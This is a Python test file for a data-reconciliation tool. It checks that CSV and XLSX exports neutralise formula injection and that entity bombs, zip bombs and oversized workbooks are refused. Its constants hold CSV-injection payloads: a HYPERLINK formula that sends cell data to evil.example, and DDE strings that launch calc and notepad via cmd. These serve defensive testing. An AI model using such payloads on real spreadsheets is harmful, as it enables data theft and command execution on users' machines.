"""Hostile files: formula-injection text is neutralised in every export; an XML entity
bomb and an oversized archive are refused with a clear message (exit 2, no traceback)."""

from __future__ import annotations

import copy

import openpyxl
import pandas as pd
import pytest

import egoveval.io.readers as readers
from egoveval.cli.reconcile import reconcile
from egoveval.collect.reconcile import reconcile_collections
from egoveval.errors import InputError

from .conftest import read_out, run_cli, synthetic_truth
from .files import add_entity_bomb, rows_of, write_csv_rows, write_xlsx_rows

BJ = "110000"
EVIL_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_SOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_C_NOTE = "=cmd|' /C notepad'!A1"


@pytest.fixture()
def pair(tmp_path):
    truth = synthetic_truth(5)
    b = copy.deepcopy(truth)
    b[BJ]["ios_updates"] = truth[BJ]["ios_updates"] + 4
    a_path = write_csv_rows(tmp_path / "A_synthetic.csv",
                            rows_of(truth, extra={BJ: (EVIL_SOURCE, EVIL_NOTE)}))
    b_path = write_csv_rows(tmp_path / "B_synthetic.csv", rows_of(b, extra={BJ: ("", "-2+3 " + EVIL_NOTE)}))
    return truth, a_path, b_path


def test_formula_injection_is_written_as_text_everywhere(pair, tmp_path):
    truth, a_path, b_path = pair
    out = tmp_path / "out"
    assert run_cli(reconcile, [a_path, b_path, "--out", out]).exit_code == 3
    disc = read_out(out / "discrepancies.csv")
    assert disc.loc[0, "note_A"] == "'" + EVIL_NOTE
    assert disc.loc[0, "note_B"].startswith("'-2+3")
    ws = openpyxl.load_workbook(out / "discrepancies.xlsx").worksheets[0]
    headers = [c.value.split("\n")[-1] for c in ws[1]]
    cell = ws.cell(2, headers.index("note_A") + 1)
    assert cell.value == "'" + EVIL_NOTE and cell.data_type == "s"
    raw_xml = __import__("zipfile").ZipFile(out / "discrepancies.xlsx").read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw_xml  # no formula anywhere
    # the third check writes a hostile note too; it reaches audit.csv and verified.csv neutralised
    c = disc.copy()
    c["decision"], c["checked_by"], c["checked_at"], c["note"] = "A", "synthetic checker", "2021-03-20", EVIL_C_NOTE
    c_path = tmp_path / "C_synthetic.csv"
    c.to_csv(c_path, index=False, encoding="utf-8-sig")
    final = tmp_path / "final"
    result = run_cli(reconcile, [a_path, b_path, "--adjudication", c_path, "--out", final])
    assert result.exit_code == 0, result.output
    audit = read_out(final / "audit.csv")
    assert audit.loc[0, "why"] == "'" + EVIL_C_NOTE
    verified = read_out(final / "verified.csv")
    bj = verified[verified.unit_code == BJ].set_index("indicator")
    assert bj.loc["ios_updates", "note"] == "'" + EVIL_C_NOTE
    assert bj.loc["nat_legal_items", "source"] == "'" + EVIL_SOURCE
    for name in ("discrepancies.csv", "audit.csv", "verified.csv", "agreement.csv"):
        for line in (final / name).read_text(encoding="utf-8-sig").splitlines():
            for field in line.split(","):
                assert not field.lstrip('"').startswith(("=", "+", "@", "-2")), (name, field)


def test_xml_entity_bomb_is_refused(tmp_path, pair):
    truth, a_path, _ = pair
    bomb = write_xlsx_rows(tmp_path / "B_bomb_synthetic.xlsx", rows_of(truth))
    add_entity_bomb(bomb)
    with pytest.raises(InputError) as info:
        reconcile_collections(a_path, bomb)
    assert [p.rule for p in info.value.errors] == ["io.xml_forbidden"]
    assert "entity" in info.value.errors[0].message("en")
    result = run_cli(reconcile, [a_path, bomb, "--out", tmp_path / "out"])
    assert result.exit_code == 2
    assert "Traceback" not in result.output and "nothing was written" in result.output
    assert not (tmp_path / "out").exists()


def test_oversized_archive_is_refused(tmp_path, pair, monkeypatch):
    truth, a_path, _ = pair
    big = write_xlsx_rows(tmp_path / "B_big_synthetic.xlsx", rows_of(truth))
    monkeypatch.setattr(readers, "MAX_XLSX_UNCOMPRESSED", 2_000)
    with pytest.raises(InputError) as info:
        reconcile_collections(a_path, big)
    assert [p.rule for p in info.value.errors] == ["io.too_large"]
    result = run_cli(reconcile, [a_path, big, "--out", tmp_path / "out"])
    assert result.exit_code == 2
    assert "Traceback" not in result.output and "nothing was written" in result.output
    assert not (tmp_path / "out").exists()


def _add_member(path, name: str, data: bytes):
    import zipfile

    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(name, data)
    return path


def _never_opened(monkeypatch):
    """openpyxl must not be handed a refused archive."""
    import openpyxl as opx

    def refuse(*args, **kwargs):
        raise AssertionError("openpyxl.load_workbook was called on a refused archive")
    monkeypatch.setattr(opx, "load_workbook", refuse)


def test_a_highly_compressed_member_is_refused(tmp_path, pair, monkeypatch):
    truth, a_path, _ = pair
    bomb = write_xlsx_rows(tmp_path / "B_ratio_synthetic.xlsx", rows_of(truth))
    _add_member(bomb, "xl/media/padding.bin", b"\0" * (4 * 1024 * 1024))  # 4 MiB of zeros → a few KiB
    assert bomb.stat().st_size < 100_000
    _never_opened(monkeypatch)
    with pytest.raises(InputError) as info:
        reconcile_collections(a_path, bomb)
    (problem,) = info.value.errors
    assert (problem.rule, problem.value) == ("io.zip_bomb", "xl/media/padding.bin")
    assert f"{readers.MAX_COMPRESSION_RATIO}:1" in problem.message("en")
    assert f"{readers.MAX_COMPRESSION_RATIO}:1" in problem.message("zh")
    result = run_cli(reconcile, [a_path, bomb, "--out", tmp_path / "out"])
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert not (tmp_path / "out").exists()


def test_a_realistic_large_collection_workbook_passes_the_archive_limits(tmp_path):
    """3,000 units × 80 indicators (synthetic; a header row, names, numbers, dates, notes) is
    within the size, ratio and cell limits."""
    from datetime import date

    path = tmp_path / "large_collection_synthetic.xlsx"
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("数据 data")
    ws.append(["地区"] + [f"指标{j} (x{j})" for j in range(1, 79)] + ["备注 note"])
    for i in range(1, 3000):
        ws.append([f"合成单位{i}"] + [i * j % 997 + 0.25 for j in range(1, 78)] + [date(2021, 1, 1 + i % 28),
                                                                              f"synthetic note {i}"])
    wb.save(path)
    readers._check_archive(path)  # no InputError


def _with_calc_chain(path, formula_cells):
    """Add the calculation chain Excel writes (one row-less <c> per formula cell); openpyxl
    writes none."""
    import zipfile

    with zipfile.ZipFile(path) as zf:
        members = {n: zf.read(n) for n in zf.namelist()}
    members["xl/calcChain.xml"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + "".join(f'<c r="{ref}" i="1"/>' for ref in formula_cells) + "</calcChain>").encode()
    types = members["[Content_Types].xml"].decode()
    members["[Content_Types].xml"] = types.replace("</Types>", (
        '<Override PartName="/xl/calcChain.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml"/></Types>')).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)


def test_formula_cells_count_once_though_the_calculation_chain_lists_them(tmp_path, monkeypatch):
    path = tmp_path / "formulas_synthetic.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    for r in range(1, 31):  # synthetic: two values and a formula per row
        ws.append([r, 2 * r, f"=A{r}+B{r}"])
    wb.save(path)
    _with_calc_chain(path, [f"C{r}" for r in range(1, 31)])
    monkeypatch.setattr(readers, "MAX_XLSX_CELLS", 90)  # exactly the sheet's cells
    readers._check_archive(path)  # 90 cells, not 120
    monkeypatch.setattr(readers, "MAX_XLSX_CELLS", 89)
    with pytest.raises(InputError) as info:
        readers._check_archive(path)
    assert info.value.problems[0].rule == "io.too_many_cells" and info.value.problems[0].value == "90"


def test_a_workbook_with_too_many_cells_is_refused_before_openpyxl_loads_it(tmp_path, pair, monkeypatch):
    """A small file (well under every size limit) whose sheet XML holds more cells than the
    limit: refused by counting, without building the workbook in memory."""
    import re
    import zipfile

    truth, a_path, _ = pair
    big = write_xlsx_rows(tmp_path / "B_many_cells_synthetic.xlsx", rows_of(truth))
    with zipfile.ZipFile(big) as zf:
        members = {n: zf.read(n) for n in zf.namelist()}
    rows_needed = readers.MAX_XLSX_CELLS // 20 + 10
    extra = "".join(f'<row r="{r}">' + "".join(f'<c r="{col}{r}"><v>1</v></c>' for col in "ABCDEFGHIJKLMNOPQRST")
                    + "</row>" for r in range(40, 40 + rows_needed))
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    sheet = re.sub(r"</sheetData>", extra + "</sheetData>", sheet, count=1)
    members["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    assert big.stat().st_size < 2 * 2**20
    _never_opened(monkeypatch)
    with pytest.raises(InputError) as info:
        reconcile_collections(a_path, big)
    (problem,) = info.value.errors
    assert problem.rule == "io.too_many_cells"
    assert f"{readers.MAX_XLSX_CELLS:,}" in problem.message("en") and f"{readers.MAX_XLSX_CELLS:,}" in problem.message("zh")


def test_cells_are_counted_exactly_across_chunk_boundaries(tmp_path, pair):
    import zipfile

    truth, _, _ = pair
    path = write_xlsx_rows(tmp_path / "B_count_synthetic.xlsx", rows_of(truth))
    ws = openpyxl.load_workbook(path).active
    expected = sum(1 for row in ws.iter_rows() for c in row if c.value is not None)
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("xl/worksheets/sheet1.xml")
        counts = {chunk: readers._count_cells(zf, info, chunk) for chunk in (7, 64, 1000, 1 << 20)}
    assert set(counts.values()) == {expected}, counts
